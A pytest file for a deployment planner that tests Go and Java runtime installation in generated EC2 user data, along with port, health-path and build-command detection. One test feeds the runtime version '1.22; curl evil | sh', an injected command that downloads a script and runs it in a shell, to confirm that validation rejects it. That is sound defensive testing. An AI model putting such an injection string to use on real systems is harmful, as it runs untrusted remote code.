"""Go and Java: what the corpus format cannot say (evidence lines, errors), and the user data that
installs each runtime, run by bash with the system commands replaced by recorders."""

import subprocess
from pathlib import Path

import pytest
from pydantic import ValidationError

from hivemind.errors import PlanError
from hivemind.models import DeploymentPlan, PlanOverrides
from hivemind.planning import make_plan
from hivemind.templating.runtimes import GO_ENV, RUNTIMES
from hivemind.templating.userdata import _environment
from tests.fixtures.repo import write_files
from tests.fixtures.repos import CORPUS
from tests.fixtures.userdata import instance_script, raw_user_data

GO = dict(
    app_name="svc",
    language="go",
    framework="gin",
    runtime_version="1.22",
    install_command="go mod download",
    build_command="go build -o bin/app ./cmd/server",
    start_command="./bin/app",
    port=8080,
    port_env="PORT",
    source_bundle="s3://b/k.zip",
)
JAVA = dict(
    app_name="svc",
    language="java",
    framework="spring-boot",
    runtime_version="17",
    build_command='chmod +x mvnw && ./mvnw -B -DskipTests package && cp "$(ls -S target/*.jar | head -n 1)" app.jar',
    start_command="java -jar app.jar",
    port=8080,
    port_env="SERVER_PORT",
    instance_type="t3.small",
    source_bundle="s3://b/k.zip",
)


def plan_of(root: Path, **overrides) -> DeploymentPlan:
    return make_plan(root, app_name="app", overrides=PlanOverrides(**overrides))


def rendered_user_data(plan: DeploymentPlan) -> str:
    """The user data as the instance gets it, after CloudFormation's Fn::Sub."""
    return instance_script(raw_user_data(plan))


def run_install(tmp_path: Path, snippet: str, stubs: dict[str, str]) -> list[str]:
    """Run a runtime's install snippet with `set -euo pipefail`, each named command replaced by a
    stub that logs its arguments and then runs its body; returns the log."""
    bin_dir, log = tmp_path / "bin", tmp_path / "calls.log"
    bin_dir.mkdir()
    log.touch()
    for name, body in stubs.items():
        stub = bin_dir / name
        stub.write_text(f'#!/bin/bash\necho "{name} $*" >> {log}\n{body}\n')
        stub.chmod(0o755)
    subprocess.run(
        ["bash", "-c", f"set -euo pipefail\nexport PATH={bin_dir}:$PATH\n{snippet}"],
        check=True,
        capture_output=True,
        text=True,
    )
    return log.read_text().splitlines()


@pytest.mark.parametrize("plan", [DeploymentPlan(**GO), DeploymentPlan(**JAVA)], ids=["go", "java"])
def test_the_whole_user_data_is_valid_bash(plan):
    script = rendered_user_data(plan)
    result = subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True)
    assert result.returncode == 0, result.stderr


def test_go_user_data_installs_go_and_gives_the_app_writable_caches():
    script = rendered_user_data(DeploymentPlan(**GO))
    assert "dnf install -y golang" in script
    assert "install -d -o app -g app /var/lib/hivemind/go /var/cache/hivemind/go-build" in script
    for name in ("GOPATH", "GOCACHE", "GOPROXY", "GOTOOLCHAIN"):
        assert f"'export {name}={GO_ENV[name]}'" in script, name
    assert "'export PORT=8080'" in script
    assert "/usr/local/go/bin" in script


def test_the_plan_environment_wins_over_the_runtime_defaults():
    plan = DeploymentPlan(**GO, environment={"GOPROXY": "https://goproxy.internal"})
    lines = _environment(plan, [])
    assert "export GOPROXY=https://goproxy.internal" in lines
    assert "export GOPATH=/var/lib/hivemind/go" in lines


@pytest.mark.parametrize(
    ("wanted", "packaged", "download"),
    [
        ("1.22", "go1.21.9", "go1.22.0.linux-amd64.tar.gz"),
        ("1.22.4", "go1.22.1", "go1.22.4.linux-amd64.tar.gz"),
        ("1.20", "", "go1.20.linux-amd64.tar.gz"),
        ("1.22", "go1.22.7", None),
        ("1.21.3", "go1.23.0", None),
    ],
)
def test_go_comes_from_go_dev_only_when_the_packaged_go_is_older(tmp_path, wanted, packaged, download):
    install, path = RUNTIMES["go"](DeploymentPlan(**{**GO, "runtime_version": wanted}))
    go = f'[ "$1" = env ] && echo {packaged}' if packaged else "exit 1"
    calls = run_install(
        tmp_path,
        install,
        {"dnf": "", "install": "", "go": go, "curl": "", "tar": "", "rm": "", "uname": "echo x86_64"},
    )
    fetched = [c for c in calls if c.startswith("curl ")]
    if download is None:
        assert fetched == []
    else:
        assert fetched == [f"curl -fsSL -o /tmp/go.tar.gz https://go.dev/dl/{download}"]
        assert "tar -C /usr/local -xzf /tmp/go.tar.gz" in calls
    assert path == ["/usr/local/go/bin"]


def test_a_go_version_that_is_not_a_version_never_reaches_the_script():
    with pytest.raises(ValidationError, match="runtime_version"):  # the plan itself refuses shell words
        DeploymentPlan(**{**GO, "runtime_version": "1.22; curl evil | sh"})
    install, _ = RUNTIMES["go"](DeploymentPlan(**{**GO, "runtime_version": "golang:1.22-alpine"}))
    assert "golang:1.22" not in install and "go.dev" not in install  # a well-formed non-version downloads nothing


def _fake_jdk(tmp_path: Path, name: str) -> Path:
    javac = tmp_path / "jvm" / name / "bin" / "javac"
    javac.parent.mkdir(parents=True)
    for tool in ("javac", "java"):
        (javac.parent / tool).write_text("#!/bin/sh\necho fake\n")
        (javac.parent / tool).chmod(0o755)
    return javac


@pytest.mark.parametrize(
    ("version", "jdk", "folder"),
    [
        ("17", "java-17-amazon-corretto-devel", "java-17-amazon-corretto.x86_64"),
        ("21", "java-21-amazon-corretto-devel", "java-21-amazon-corretto.x86_64"),
        ("1.8", "java-1.8.0-amazon-corretto-devel", "java-1.8.0-amazon-corretto.x86_64"),
    ],
)
def test_java_installs_that_corretto_and_links_it_as_java_home(tmp_path, version, jdk, folder):
    plan = DeploymentPlan(**{**JAVA, "runtime_version": version})
    install, path = RUNTIMES["java"](plan)
    javac = _fake_jdk(tmp_path, folder)
    home = tmp_path / "jdk"
    calls = run_install(
        tmp_path,
        install.replace("/opt/hivemind/jdk", str(home)),
        {"dnf": "", "rpm": f'[ "$1" = -ql ] && echo {javac.parent}/java && echo {javac}', "curl": ""},
    )
    assert calls[0] == f"dnf install -y {jdk}"
    assert not any("maven" in c for c in calls), "the Maven wrapper brings its own Maven"
    assert home.resolve() == javac.parent.parent
    assert path == ["/opt/hivemind/jdk/bin"]


def test_java_falls_back_to_corretto_s_repository_then_to_corretto_21(tmp_path):
    plan = DeploymentPlan(**{**JAVA, "runtime_version": "25", "build_command": "mvn -B -DskipTests package"})
    install, _ = RUNTIMES["java"](plan)
    javac = _fake_jdk(tmp_path, "java-21-amazon-corretto.x86_64")
    calls = run_install(
        tmp_path,
        install.replace("/opt/hivemind/jdk", str(tmp_path / "jdk")),
        {
            "dnf": 'case "$*" in *java-21-amazon-corretto-devel|"install -y maven") exit 0 ;; *) exit 1 ;; esac',
            "rpm": '[ "$1" = --import ] || exit 1',
            "curl": "",
            "javac": "",
            "readlink": f"echo {javac}",
        },
    )
    installs = [c for c in calls if c.startswith("dnf ")]
    assert installs == [
        "dnf install -y java-25-amazon-corretto-devel",
        "dnf install -y java-25-amazon-corretto-devel",
        "dnf install -y java-21-amazon-corretto-devel",
        "dnf install -y maven-amazon-corretto25",
        "dnf install -y maven",
    ]
    assert "curl -fsSL -o /etc/yum.repos.d/corretto.repo https://yum.corretto.aws/corretto.repo" in calls
    assert (tmp_path / "jdk").resolve() == javac.parent.parent


def test_gradle_is_installed_only_when_the_build_calls_it_without_its_wrapper():
    wrapper = RUNTIMES["java"](DeploymentPlan(**{**JAVA, "build_command": "chmod +x gradlew && ./gradlew bootJar"}))
    bare = RUNTIMES["java"](DeploymentPlan(**{**JAVA, "build_command": "gradle bootJar -x test --no-daemon"}))
    assert "services.gradle.org" not in wrapper[0] and "dnf install -y maven" not in wrapper[0]
    assert "https://services.gradle.org/distributions/gradle-" in bare[0]
    assert bare[1] == ["/opt/hivemind/jdk/bin", "/opt/hivemind/gradle/bin"]


def test_java_user_data_sets_java_home_and_the_spring_port():
    script = rendered_user_data(DeploymentPlan(**JAVA))
    assert "'export JAVA_HOME=/opt/hivemind/jdk'" in script
    assert "'export SERVER_PORT=8080'" in script
    assert "'exec java -jar app.jar'" in script


def test_spring_evidence_points_at_the_lines_that_decided(tmp_path):
    plan = plan_of(CORPUS["spring-gradle-kts-toolchain-port-placeholder"].write(tmp_path))
    yml = (tmp_path / "src/main/resources/application.yml").read_text().splitlines()
    port = plan.why("port")
    assert (port.file, yml[port.line - 1].strip()) == ("src/main/resources/application.yml", "port: ${PORT:8081}")
    version = plan.why("runtime_version")
    build = (tmp_path / "build.gradle.kts").read_text().splitlines()
    assert "JavaLanguageVersion.of(21)" in build[version.line - 1]
    assert plan.why("instance_type").source == "detected"


def test_a_maven_project_without_spring_boot_asks_for_a_start_command(tmp_path):
    (tmp_path / "pom.xml").write_text("<project><artifactId>lib</artifactId></project>\n")
    with pytest.raises(PlanError, match="cannot tell how to start"):
        plan_of(tmp_path)


def test_spring_class_prefixes_and_kotlin_controllers_make_the_health_path(tmp_path):
    files = {
        "build.gradle.kts": 'plugins { id("org.springframework.boot") version "3.3.4" }\nkotlin { jvmToolchain(17) }\n',
        "src/main/kotlin/com/example/api/Ops.kt": '@RestController\n@RequestMapping(["/ops"])\nclass Ops {\n'
        '    @GetMapping(path = ["/healthz"], produces = ["text/plain"])\n    fun health() = "ok"\n}\n',
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    plan = plan_of(tmp_path)
    assert (plan.runtime_version, plan.health_path, plan.why("health_path").line) == ("17", "/ops/healthz", 4)


def test_go_prefers_the_server_under_cmd_and_reads_env_struct_tags(tmp_path):
    files = {
        "go.mod": "module x\n\ngo 1.22\n",
        "cmd/cli/main.go": "package main\n\nfunc main() {}\n",
        "cmd/api/main.go": 'package main\n\nimport "net/http"\n\nfunc main() { http.ListenAndServe(addr(), nil) }\n',
        "internal/config/config.go": "package config\n\ntype C struct {\n"
        '\tPort int `env:"HTTP_PORT" envDefault:"8088"`\n}\n',
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    plan = plan_of(tmp_path)
    assert plan.build_command == "go build -o bin/app ./cmd/api"
    assert (plan.port, plan.port_env, plan.why("port").file) == (8088, "HTTP_PORT", "internal/config/config.go")


def test_a_procfile_naming_the_buildpacks_binary_runs_the_one_this_build_writes(tmp_path):
    # heroku/go-getting-started: `web: go-getting-started` (Heroku's Go buildpack puts the module's
    # binary on PATH); the build here writes bin/app, so that name would not be found
    root = write_files(
        tmp_path,
        {
            "go.mod": "module github.com/heroku/go-getting-started\n\n// +heroku goVersion go1.25\ngo 1.25\n",
            "main.go": 'package main\n\nimport "net/http"\n\nfunc main() {\n'
            '\thttp.ListenAndServe(":"+os.Getenv("PORT"), nil)\n}\n',
            "Procfile": "web: go-getting-started\n",
        },
    )
    plan = make_plan(root, app_name="go")
    assert (plan.build_command, plan.start_command) == ("go build -o bin/app .", "./bin/app")
